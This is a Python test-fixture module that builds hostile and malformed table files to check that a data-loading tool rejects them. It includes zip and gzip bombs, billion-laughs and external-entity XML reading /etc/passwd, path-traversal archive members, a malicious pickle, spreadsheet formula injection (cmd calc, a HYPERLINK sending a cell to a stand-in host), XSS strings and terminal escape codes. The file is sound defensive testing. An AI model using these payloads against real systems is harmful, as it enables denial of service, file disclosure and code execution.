"""Tables that somebody means harm with, or that are broken: made by code, never kept.

``HOSTILE`` maps names of files to functions that write them; each is to end in one
sentence, or to work. Candidates of the sound ones have the columns x, z and y.
"""

import gzip
import io
import pickle
import struct
import zipfile
import zlib
from dataclasses import dataclass
from xml.sax.saxutils import escape

import numpy as np

ROWS = [(i, (7 * i) % 5, 0.5 * i + ((7 * i) % 5) ** 2) for i in range(12)]
# What a spreadsheet program would run, or show a stranger's words by.
FORMULAS = [
    "=cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    '=HYPERLINK("http://example.invalid/?"&A1,"result")',
    "\t=1+1",
]
SCRIPTS = [
    "<script>window.wasRun = true</script>",
    "<img src=x onerror='window.wasRun = true'>",
    '"><svg onload="window.wasRun = true">',
    "javascript:window.wasRun=true",
    "{{constructor.constructor('window.wasRun=true')()}}",
    "[click](javascript:window.wasRun=true)",
]


@dataclass
class Hostile:
    """One file.

    Attributes
    ----------
    make : callable
        Takes nothing, returns the bytes of the file.
    sentence : str or None
        A part of what ``init --target y`` says, None where it is to work.
    large : bool
        Whether reading it without care takes all memory.
    """

    make: object
    sentence: str | None = None
    large: bool = False


HOSTILE = {}


def hostile(name, sentence=None, large=False):
    def keep(make):
        HOSTILE[name] = Hostile(make, sentence, large)
        return make

    return keep


def csv(rows=ROWS, names=("x", "z", "y"), separator=","):
    """A table as text."""
    lines = [names, *rows]
    return "\n".join(separator.join(map(_quoted, line)) for line in lines) + "\n"


def _quoted(cell):
    cell = str(cell)
    risky = any(c in cell for c in '",\n\r')
    return '"' + cell.replace('"', '""') + '"' if risky else cell


def zipped(members):
    """A zip file of names and contents."""
    data = io.BytesIO()
    with zipfile.ZipFile(data, "w", zipfile.ZIP_DEFLATED) as file:
        for name, content in members.items():
            file.writestr(name, content)
    return data.getvalue()


def deflated(block, times):
    """What deflate makes of a block so many times, its checksum and its length."""
    packer = zlib.compressobj(9, zlib.DEFLATED, -15)
    packed = packer.compress(block) + packer.flush(zlib.Z_FULL_FLUSH)
    check = 0
    for _ in range(times):
        check = zlib.crc32(block, check)
    return packed * times + packer.flush(), check, len(block) * times


def zip_bomb(name, block, times):
    """A zip file whose one member is so many blocks."""
    packed, check, size = deflated(block, times)
    data = io.BytesIO()
    with zipfile.ZipFile(data, "w") as file:
        file.writestr(name, packed)
    stored = struct.pack("<LLL", zlib.crc32(packed), len(packed), len(packed))
    method = b"\x14\0\0\0\0\0"  # version needed, flags, stored
    data = data.getvalue().replace(
        stored, struct.pack("<LLL", check, len(packed), size)
    )
    return data.replace(method, b"\x14\0\0\0\x08\0")


def gzip_bomb(head, block, times):
    """A gzip file of a beginning and so many blocks."""
    packed, check, size = deflated(block, times)
    end = struct.pack("<LL", check, size % 2**32)
    return gzip.compress(head) + b"\x1f\x8b\x08" + bytes(7) + packed + end


_OFFICE = "http://schemas.openxmlformats.org"
_MAIN = f'xmlns="{_OFFICE}/spreadsheetml/2006/main"'
_RELATIONS = f'xmlns="{_OFFICE}/package/2006/relationships"'
_TYPE = f"{_OFFICE}/officeDocument/2006/relationships"
_XML = '<?xml version="1.0" encoding="UTF-8"?>'


def xlsx(sheet, prolog="", **members):
    """A workbook with the XML of its one sheet as given."""
    kind = "application/vnd.openxmlformats-officedocument.spreadsheetml"
    types = (
        f'{_XML}<Types xmlns="{_OFFICE}/package/2006/content-types">'
        '<Default Extension="rels" ContentType='
        '"application/vnd.openxmlformats-package.relationships+xml"/>'
        '<Default Extension="xml" ContentType="application/xml"/>'
        f'<Override PartName="/xl/workbook.xml" ContentType="{kind}.sheet.main+xml"/>'
        '<Override PartName="/xl/worksheets/sheet1.xml" '
        f'ContentType="{kind}.worksheet+xml"/></Types>'
    )
    files = {
        "[Content_Types].xml": types,
        "_rels/.rels": f"{_XML}<Relationships {_RELATIONS}>"
        f'<Relationship Id="r1" Type="{_TYPE}/officeDocument" '
        'Target="xl/workbook.xml"/></Relationships>',
        "xl/workbook.xml": f'{_XML}<workbook {_MAIN} xmlns:r="{_TYPE}"><sheets>'
        '<sheet name="s" sheetId="1" r:id="r1"/></sheets></workbook>',
        "xl/_rels/workbook.xml.rels": f"{_XML}<Relationships {_RELATIONS}>"
        f'<Relationship Id="r1" Type="{_TYPE}/worksheet" '
        'Target="worksheets/sheet1.xml"/></Relationships>',
        "xl/worksheets/sheet1.xml": f"{_XML}{prolog}<worksheet {_MAIN}>{sheet}"
        "</worksheet>",
    }
    return zipped(files | members)


def cells(rows=ROWS, names=("x", "z", "y")):
    """The XML of a sheet with a table, all of it text."""
    lines = [names, *rows]
    return "".join(
        "<row>"
        + "".join(
            f"<c t='inlineStr'><is><t>{escape(str(c))}</t></is></c>" for c in line
        )
        + "</row>"
        for line in lines
    )


def ods(table):
    """A workbook of LibreOffice with the XML of its one table as given."""
    spaces = " ".join(
        f'xmlns:{name}="urn:oasis:names:tc:opendocument:xmlns:{name}:1.0"'
        for name in ("office", "table", "text")
    )
    kind = "application/vnd.oasis.opendocument.spreadsheet"
    manifest = "urn:oasis:names:tc:opendocument:xmlns:manifest:1.0"
    return zipped(
        {
            "mimetype": kind,
            "content.xml": f"{_XML}<office:document-content {spaces}><office:body>"
            f'<office:spreadsheet><table:table table:name="s">{table}</table:table>'
            "</office:spreadsheet></office:body></office:document-content>",
            "META-INF/manifest.xml": f"{_XML}<manifest:manifest xmlns:manifest="
            f'"{manifest}"><manifest:file-entry manifest:full-path="/" '
            f'manifest:media-type="{kind}"/><manifest:file-entry '
            'manifest:full-path="content.xml" manifest:media-type="text/xml"/>'
            "</manifest:manifest>",
        }
    )


def _cell(value, **repeated):
    repeated = "".join(f' table:number-{k}-repeated="{n}"' for k, n in repeated.items())
    return (
        f'<table:table-cell office:value-type="string"{repeated}>'
        f"<text:p>{value}</text:p></table:table-cell>"
    )


def parquet(frame=None, **columns):
    """The bytes of a Parquet file of columns."""
    import pyarrow as pa
    import pyarrow.parquet as pq

    data = io.BytesIO()
    table = pa.table(columns) if frame is None else frame
    pq.write_table(table, data)
    return data.getvalue()


def columns():
    """The sound table by columns."""
    return dict(zip("xzy", map(list, zip(*ROWS, strict=True)), strict=True))


# Too much


@hostile("bomb.xlsx", "more than 512 MB, unpacked", large=True)
def _():
    row = b"<row><c><v>1</v></c></row>" * 40_000
    return zip_bomb("xl/worksheets/sheet1.xml", row, 1000)


@hostile("bomb.ods", "more than 512 MB, unpacked", large=True)
def _():
    return zip_bomb("content.xml", bytes(1 << 20), 1000)


@hostile("bomb.csv.gz", "more than 512 MB, unpacked", large=True)
def _():
    return gzip_bomb(b"x,y\n", b"1,2\n" * (1 << 18), 1000)


@hostile("bomb.parquet", "cells", large=True)
def _():
    import pyarrow as pa

    return parquet(x=pa.nulls(30_000_000), y=pa.nulls(30_000_000))


@hostile("one_word.parquet", "more than 512 MB, unpacked", large=True)
def _():
    import pyarrow as pa

    places = pa.array(np.zeros(200_000, dtype=np.int8))
    words = pa.DictionaryArray.from_arrays(places, pa.array(["a" * 30_000]))
    return parquet(x=words, y=pa.nulls(200_000))


@hostile("a_million_columns.csv", "16,384 columns")
def _():
    names = ",".join(f"c{i}" for i in range(1_000_000))
    return f"{names}\n{'1,' * 999_999}1\n".encode()


@hostile("one_row_of_a_million.csv", "16,384 columns")
def _():
    return (csv() + "1," * 999_999 + "1\n").encode()


@hostile("only_separators.csv", "16,384 columns")
def _():
    return b"x,y\n" + b"," * 10_000_000


@hostile("cells_of_1_MB.csv", "32,767 characters")
def _():
    return csv([(i, "a" * 1_000_000, y) for i, _, y in ROWS]).encode()


@hostile("name_of_1_MB.csv", "32,767 characters")
def _():
    return csv(names=("x", "z" * 1_000_000, "y")).encode()


@hostile("cells_of_1_MB.parquet", "32,767 characters")
def _():
    return parquet(**columns() | {"z": ["a" * 1_000_000] * len(ROWS)})


@hostile("cells_of_1_MB.xlsx", "32,767 characters")
def _():
    rows = [(i, "a" * 1_000_000, y) for i, _, y in ROWS]
    return xlsx(f"<sheetData>{cells(rows)}</sheetData>")


@hostile("far_corner.xlsx", "cells", large=True)
def _():
    corner = '<row r="1048576"><c r="XFD1048576"><v>1</v></c></row>'
    return xlsx(
        f'<dimension ref="A1:XFD1048576"/><sheetData>{cells()}{corner}</sheetData>'
    )


@hostile("beyond_all_rows.xlsx", "cells", large=True)
def _():
    far = '<row r="99999999999"><c r="A99999999999"><v>1</v></c></row>'
    return xlsx(f"<sheetData>{cells()}{far}</sheetData>")


@hostile("claims_a_size.xlsx")
def _():
    return xlsx(f'<dimension ref="A1:XFD1048576"/><sheetData>{cells()}</sheetData>')


@hostile("repeated.ods", "cells", large=True)
def _():
    row = f"<table:table-row>{_cell('x')}{_cell('y')}</table:table-row>"
    many = _cell("1", columns=16_384)
    again = 'table:number-rows-repeated="1048575"'
    return ods(f"{row}<table:table-row {again}>{many}</table:table-row>")


@hostile("spaces.ods", "32,767 characters", large=True)
def _():
    row = f"<table:table-row>{_cell('x')}{_cell('y')}</table:table-row>"
    long = _cell('<text:s text:c="3000000000"/>')
    return ods(f"{row}<table:table-row>{long}{_cell('1')}</table:table-row>")


# XML that is more than a table

LAUGHS = (
    "<!DOCTYPE lolz [<!ENTITY l0 'lol'>"
    + "".join(f"<!ENTITY l{i} '{f'&l{i - 1};' * 10}'>" for i in range(1, 10))
    + "]>"
)


@hostile("billion_laughs.xlsx", "declares entities", large=True)
def _():
    cell = "<c t='inlineStr'><is><t>&l9;</t></is></c>"
    row = f"<row>{cell}</row>"
    return xlsx(f"<sheetData>{cells()}{row}</sheetData>", prolog=LAUGHS)


@hostile("billion_laughs.ods", "declares entities", large=True)
def _():
    row = f"<table:table-row>{_cell('&l9;')}</table:table-row>"
    sound = ods(row)
    with zipfile.ZipFile(io.BytesIO(sound)) as file:
        members = {name: file.read(name).decode() for name in file.namelist()}
    members["content.xml"] = members["content.xml"].replace(_XML, _XML + LAUGHS)
    return zipped(members)


@hostile("external_entity.xlsx", "declares entities")
def _():
    prolog = '<!DOCTYPE a [<!ENTITY e SYSTEM "file:///etc/passwd">]>'
    row = "<row><c t='inlineStr'><is><t>&e;</t></is></c></row>"
    return xlsx(f"<sheetData>{cells()}{row}</sheetData>", prolog=prolog)


@hostile("paths_in_it.xlsx")
def _():
    members = {"../../outside.txt": "no", "/outside.txt": "no"}
    return xlsx(f"<sheetData>{cells()}</sheetData>", **members)


# Something else than their names say


@hostile("binary.csv", "is not a text file")
def _():
    return bytes(range(256)) * 40


@hostile("zeros.csv", "is not a text file")
def _():
    return csv().encode().replace(b"3", b"\0")


@hostile("utf-16_without_a_mark.csv", "is not a text file")
def _():
    return csv().encode("utf-16-le")


@hostile("neither_encoding.csv", "neither UTF-8 nor Windows-1252")
def _():
    return csv(names=("x", "größe", "y")).encode("cp1252") + b"\x81,\x8d,1\n"


@hostile("shift_jis.csv")
def _():
    return csv(names=("x", "温度", "y")).encode("shift_jis")


@hostile("half.xlsx", "not a sound workbook")
def _():
    sound = xlsx(f"<sheetData>{cells()}</sheetData>")
    return sound[: len(sound) // 2]


@hostile("half.ods", "not a sound workbook")
def _():
    sound = ods(f"<table:table-row>{_cell('x')}</table:table-row>")
    return sound[: len(sound) // 2]


@hostile("damaged.xlsx", "not a sound workbook")
def _():
    sound = bytearray(xlsx(f"<sheetData>{cells()}</sheetData>"))
    at = sound.index(b"xl/worksheets/sheet1.xml") + 60
    sound[at : at + 40] = bytes(40)
    return bytes(sound)


@hostile("half.parquet", "not a sound Parquet file")
def _():
    sound = parquet(**columns())
    return sound[: len(sound) // 2]


@hostile("lying_footer.parquet", "not a sound Parquet file")
def _():
    sound = parquet(**columns())
    return sound[:-8] + (2**31 - 1).to_bytes(4, "little") + sound[-4:]


@hostile("scrambled_footer.parquet", "not a sound Parquet file")
def _():
    sound = bytearray(parquet(**columns()))
    size = int.from_bytes(sound[-8:-4], "little")
    sound[-8 - size : -8 - size // 2] = b"\xff" * (size - size // 2)
    return bytes(sound)


@hostile("pickle.parquet", "not a sound Parquet file")
def _():
    return pickle.dumps(_Explosive())


class _Explosive:
    def __reduce__(self):
        return (open, ("outside.txt", "w"))


@hostile("half.csv.gz", "damaged gzip file")
def _():
    whole = gzip.compress(csv(ROWS * 50).encode())
    return whole[: len(whole) // 2]


@hostile("gzip_of_gzip.csv.gz", "is not a text file")
def _():
    return gzip.compress(gzip.compress(csv().encode()))


@hostile("json.csv")
def _():
    return b'[{"x": 1, "y": 2},\n {"x": 3, "y": 4}]\n'


@hostile("page.csv")
def _():
    return b"<html><body><table><tr><td>x</td><td>y</td></tr></table></body></html>"


@hostile("page.xlsx", "not a sound workbook")
def _():
    return b"<html><body><table><tr><td>x</td><td>y</td></tr></table></body></html>"


@hostile("text.xlsx", "not a sound workbook")
def _():
    return csv().encode()


@hostile("old.xls", "no ending that a table can have")
def _():
    return b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(2000)


@hostile("empty.csv", "is empty")
def _():
    return b""


@hostile("empty.xlsx", "not a sound workbook")
def _():
    return b""


@hostile("header_alone.csv", "no rows below them")
def _():
    return b"x,z,y\n"


# Cells and names


@hostile("scripts.csv")
def _():
    words = [(i, SCRIPTS[i % len(SCRIPTS)], y) for i, _, y in ROWS]
    return csv(words, names=("x", SCRIPTS[1], "y")).encode()


@hostile("formulas.csv")
def _():
    words = [(i, FORMULAS[i % len(FORMULAS)], y) for i, _, y in ROWS]
    return csv(words, names=("x", FORMULAS[0], "y")).encode()


@hostile("formulas.xlsx")
def _():
    words = [(i, FORMULAS[i % len(FORMULAS)], y) for i, _, y in ROWS]
    return xlsx(f"<sheetData>{cells(words, ('x', FORMULAS[0], 'y'))}</sheetData>")


@hostile("path_names.csv")
def _():
    return csv(names=("../../x", "C:\\z", "y")).encode()


@hostile("line_ends_in_names.csv")
def _():
    return csv(names=("x\n\r\nx", "z\tz", "y")).encode()


@hostile("control_characters.parquet")
def _():
    x, z, y = columns().values()
    return parquet(**{"x\0\x07\x1b[31m": x, "z\u202e\u2028": map_(z), "y": y})


def map_(values):
    """Text with characters that a terminal and a workbook cannot show."""
    return [f"\x1b[2J{value}\0" for value in values]


@hostile("twice.csv", "more than one column named")
def _():
    return csv(names=("x", "x", "y")).encode()


@hostile("quotes.csv")
def _():
    return csv([(i, '"' * (2 * i), y) for i, _, y in ROWS]).encode()


@hostile("open_quote.csv")
def _():
    return (csv() + '"1,2,3\n' * 1000).encode()


@hostile("text_as_target.csv")
def _():
    return csv([(i, z, f"very {'good' * (i % 3)}") for i, z, _ in ROWS]).encode()


@hostile("large_numbers.csv")
def _():
    rows = [(2**63 + i, 10**400 if i == 3 else z, y) for i, z, y in ROWS]
    return csv(rows).encode()


@hostile("large_numbers.parquet")
def _():
    import pyarrow as pa

    x = pa.array([2**63 + i for i in range(len(ROWS))], type=pa.uint64())
    return parquet(**columns() | {"x": x})


@hostile("nested.parquet")
def _():
    return parquet(**columns() | {"x": [[{"a": [i]}] for i in range(len(ROWS))]})


@hostile("infinite.csv")
def _():
    return csv([("inf" if i == 2 else i, "-1e999", y) for i, z, y in ROWS]).encode()
